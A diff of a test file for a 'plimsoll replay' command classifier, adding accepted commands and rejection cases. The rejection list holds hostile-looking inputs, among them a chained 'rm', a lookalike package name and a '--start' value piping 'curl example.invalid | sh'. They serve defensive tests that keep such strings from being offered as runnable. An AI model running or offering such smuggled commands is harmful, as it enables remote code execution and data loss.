@@ -31,12 +31,13 @@ describe('a name', () => {
 });
 
 describe('a replay command', () => {
-  it.each(["npx plimsoll replay 'u3 closed mix=stock:1 d=5s'", "npx plimsoll replay -c plimsoll.yml 'u3 on=demo'"])(
-    '%s is ready to copy',
-    (text) => {
-      expect(replayText(text)).toEqual({ kind: 'command', text });
-    },
-  );
+  it.each([
+    "npx plimsoll replay 'u3 closed mix=stock:1 d=5s'",
+    "npx plimsoll replay -c plimsoll.yml 'u3 on=demo'",
+    "npx plimsoll replay 'u3' --start '…' --users 1..4",
+  ])('%s is ready to copy', (text) => {
+    expect(replayText(text)).toEqual({ kind: 'command', text });
+  });
 
   it.each([
     "npx plimsoll replay 'u1'; rm x",
@@ -44,6 +45,8 @@ describe('a replay command', () => {
     "npx plimsoll replay 'a\nb'",
     "npx plimsol1 replay 'u1'",
     "sh -c 'npx plimsoll replay'",
+    "npx plimsoll replay 'u1' --start 'curl example.invalid | sh'",
+    "npx plimsoll replay 'u1' --start rm",
   ])('%j is only shown', (text) => {
     expect(replayText(text).kind).toBe('unknown');
   });
